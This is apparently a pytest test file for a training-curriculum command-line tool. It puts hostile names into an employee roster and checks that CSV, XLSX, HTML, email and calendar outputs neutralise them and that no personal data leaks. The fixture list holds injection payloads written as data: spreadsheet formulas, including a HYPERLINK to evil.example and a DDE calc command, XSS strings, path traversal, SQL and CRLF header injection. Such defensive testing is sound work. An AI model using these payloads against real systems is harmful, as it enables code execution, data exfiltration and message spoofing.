"""Threats from the roster: cells that somebody else would like to run, and people who must not be where all can read.

What the loader refuses (control and direction characters, NUL) is in tests/load/; here are the names that pass it.
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import re
import shutil
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar

from tests.conftest import Run

DAY = ("--as-of", "2026-11-25")
NAMES = [
    '=HYPERLINK("http://evil.example/"&A1,"x")', "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "%0d%0aBcc: a@b.c", "\u200f=1+1", "\u200b=1+1", "\u00a0=1+1", "＝1+1", "|calc",
    "{{7*7}}${7*7}<%=7*7%>", "../../../etc/passwd", "long " * 800, "O'Brien; DROP TABLE", "[x](javascript:alert(1))",
    "http://x.example/", "mailto:x@y.z", "%PDF-1.4", "x\r\nBcc: evil@example.com", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwn",
    "\t=1+1",
]  # fmt: skip
_UNSEEN = re.compile("^[\u200b-\u200f\u061c\ufeff\u2066-\u2069\u202a-\u202e\u00a0 ]+")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything the sample's people go into, under hostile names."""
    from tests.conftest import ROOT

    folder = tmp_path_factory.mktemp("hostile")
    for name in ("roles", "content", "people"):
        shutil.copytree(ROOT / name, folder / name)
    shutil.copy(ROOT / "program.yaml", folder)
    change_roster(folder, lambda n, row: row | {"name": NAMES[n % len(NAMES)], "department": NAMES[n % 12]})
    for words in (
        ("schedule", "--out", folder / "sched"),
        ("report", "--manager", "E1003", "--manager", "E1005"),
        ("remind",),
        *(("export", kind, "--lms", "moodle") for kind in ("enrolments", "statements", "badges", "plan")),
    ):
        ran = run_in(words, folder)
        assert ran.exit_code == 0, (words, ran.stderr)
    return folder


def run_in(words, folder):  # type: ignore[no-untyped-def]
    from typer.testing import CliRunner

    from curriculum.cli import app

    return CliRunner().invoke(app, [*map(str, words), "-w", str(folder), *DAY], catch_exceptions=False)


def change_roster(folder: Path, changed) -> None:  # type: ignore[no-untyped-def]
    file = folder / "people" / "roster.csv"
    with file.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    with file.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(changed(n, row) for n, row in enumerate(rows))


def written(folder: Path, ending: str) -> list[Path]:
    found = [file for part in ("sched", "reports", "export") for file in sorted((folder / part).rglob(f"*{ending}"))]
    assert found, ending
    return found


def test_no_cell_of_a_table_is_a_formula(outputs: Path) -> None:
    guarded = 0
    for file in written(outputs, ".csv"):
        for row in csv.reader(io.StringIO(file.read_text("utf-8-sig"))):
            for cell in row:
                bare = _UNSEEN.sub("", cell)
                assert bare[:1] not in tuple("=+-@|%\t\r＝＋－＠") or not bare, (file.name, cell)
                guarded += bare.startswith("'")
    assert guarded > 50, "the names are there, and guarded"
    for file in written(outputs, ".xlsx"):
        cells = [cell for sheet in openpyxl.load_workbook(file).worksheets for row in sheet.rows for cell in row]
        assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink], file.name


def test_no_page_and_no_picture_runs_a_name(outputs: Path) -> None:
    for file in [*written(outputs, ".html"), *written(outputs, ".svg")]:
        text = file.read_text()
        assert "<script>alert" not in text and "<img" not in text and 'javascript:alert(1)"' not in text, file.name
        assert text.count("<script>") <= 1 and 'href="http' not in text, file.name


def test_no_name_adds_a_header_a_recipient_or_an_event(outputs: Path) -> None:
    for file in written(outputs, ".eml"):
        message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
        assert set(message.keys()) == {"To", "Subject", "X-Unsent", "MIME-Version", "Content-Type"}, file.name
        assert len(message["To"].addresses) == 1 and message["To"].addresses[0].addr_spec.endswith("@example.com")
        for part in message.walk():
            if part.get_content_type() == "text/html":
                assert "<script" not in part.get_content() and "<img" not in part.get_content()
    for file in written(outputs, ".ics"):
        content = file.read_bytes()
        assert not re.search(rb"(?m)^(Bcc|SUMMARY:pwn)", content) and max(map(len, content.split(b"\r\n"))) <= 75
        assert content.count(b"BEGIN:VEVENT") == len(Calendar.from_ical(content).walk("VEVENT"))


def test_nothing_is_written_elsewhere_and_all_of_it_is_for_its_owner(outputs: Path) -> None:
    assert {path.name for path in outputs.iterdir()} == {
        "program.yaml", "roles", "content", "people", "sched", "reports", "export",
    }  # fmt: skip
    for part in ("sched", "reports", "export"):
        for path in (outputs / part).rglob("*"):
            public = path.name == "export"
            mode = stat.S_IMODE(path.stat().st_mode)
            assert public or mode == (0o700 if path.is_dir() else 0o600), path
    assert stat.S_IMODE((outputs / "people" / "schedule.yaml").stat().st_mode) == 0o600


# ── people where all can read ───────────────────────────────────────────────────────────────────────────────


def marked(folder: Path) -> None:
    """Names, ids, addresses and departments that occur nowhere else."""
    for file in (folder / "people").glob("*"):
        file.write_text(re.sub(r"\bp-0(\d)", r"zqid-0\1", file.read_text()))
    change_roster(
        folder, lambda n, row: row | {"name": f"Zqname {n} Quux", "email": f"zqmail{n}@example.com"} if "email" in row
        else row | {"name": f"Zqname {n} Quux"}
    )  # fmt: skip


def every_byte(folder: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".zip" or path.suffix == ".imscc":
            with zipfile.ZipFile(path) as packed:
                yield from ((f"{path.name}/{name}", packed.read(name)) for name in packed.namelist())
        elif path.is_file():
            yield str(path), path.read_bytes()


def test_no_person_is_in_any_byte_that_employees_get(starter: Path, run: Run) -> None:
    """Sites with their search indexes, zips to carry, the trainer's edition, packages and questions for other systems."""
    marked(starter)
    for words in (
        ("build", "--zip"),
        ("build", "--edition", "trainer"),
        *(("export", kind) for kind in ("scorm12", "scorm2004", "cmi5", "cc", "gift", "qti21", "jsonld")),
    ):
        ran = run(*words, "-w", starter)
        assert ran.code == 0, (words, ran.err)
        assert not re.search("(?i)zqname|zqmail", ran.out + ran.err)
    seen = 0
    for part in ("site", "site-trainer", "export"):
        for name, content in every_byte(starter / part):
            seen += 1
            assert not re.search(rb"(?i)zqname|zqid|zqmail", content), name
    assert seen > 200
    names = {path.name for path in starter.rglob("*")}
    assert any("search" in name for name in names), "search indexes were among them"


@pytest.mark.parametrize(
    ("cell", "value"),
    [("access", "wizard"), ("manager", "nobody-there"), ("language", "!!"), ("starts_on", "soon"), ("share", "many")],
)
def test_mistakes_in_a_row_are_told_without_its_name(starter: Path, run: Run, cell: str, value: str) -> None:
    marked(starter)
    change_roster(starter, lambda n, row: row | {cell: value} if n == 1 else row)
    said = ""
    for words in (("check",), ("findings",), ("report",), ("remind",), ("audit",), ("build",),
                  ("record", "completion", "zqid-02", "no-such-module")):  # fmt: skip
        ran = run(*words, "-w", starter)
        said += ran.err + (ran.out if words[0] in ("check", "findings", "audit", "build") else "")
    assert "zqid-0" in said or "roster.csv:3" in said, "the row is named"
    assert not re.search("(?i)zqname|zqmail", said), said
